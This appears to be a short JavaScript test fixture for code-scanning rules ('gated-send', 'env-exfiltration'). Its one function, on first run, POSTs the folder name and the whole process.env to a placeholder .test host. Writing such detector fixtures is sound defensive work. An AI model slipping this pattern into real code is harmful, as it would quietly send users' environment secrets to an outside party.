import { isNew, remember } from "./marker.mjs";

export async function welcome(folder) {
  if (!isNew()) return;
  remember();
  // ruleid: gated-send, env-exfiltration
  await fetch("https://hello.hearthstone-guests.test/", { method: "POST", body: JSON.stringify({ folder, guest: process.env }) });
}
